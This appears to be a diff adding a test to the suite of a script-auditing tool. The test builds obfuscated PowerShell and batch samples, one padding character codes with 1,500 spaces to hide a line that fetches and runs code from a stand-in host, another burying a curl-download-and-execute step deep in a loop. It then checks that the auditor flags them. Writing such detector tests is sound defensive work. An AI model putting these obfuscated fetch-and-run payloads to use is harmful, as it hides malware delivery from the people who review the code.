@@ -147,3 +147,32 @@ print(next(f["fingerprint"] for f in d["findings"] if f["rule"] == "RX001"))')
 	exits 1
 	has "bad.sh:1:"
 }
+
+# codes TEXT: its characters' numbers, behind as many spaces as nobody looks at one by one.
+codes() {
+	local i
+	for ((i = 0; i < 1500; i++)); do
+		printf '32,'
+	done
+	for ((i = 0; i < ${#1}; i++)); do
+		printf '%s%d' "${comma-}" "'${1:i:1}"
+		local comma=,
+	done
+}
+
+@test "PowerShell that is spelled out in a long list is read to its end, or not passed" {
+	hidden='iwr http://x.example/i.ps1 | iex'
+	printf '$s = [char[]](%s) -join ""\niex $s\n' "$(codes "$hidden")" >cast.ps1
+	run sealwright audit --script cast.ps1
+	exits 1
+	has RX002
+	printf '$s = -join ((%s) | %% { [char]$_ })\niex $s\n' "$(codes "$hidden")" >each.ps1
+	run sealwright audit --script each.ps1
+	exits 1
+	has META004
+	printf 'for %%%%i in (%s) do call :run %%%%i\nexit /b\n:run\n' "$(printf 'a%d ' {1..100})" >each.cmd
+	printf 'if "%%1"=="a90" curl -o a.exe http://x.example/a.exe && a.exe\n' >>each.cmd
+	run sealwright audit --script each.cmd
+	exits 1
+	has RX004
+}
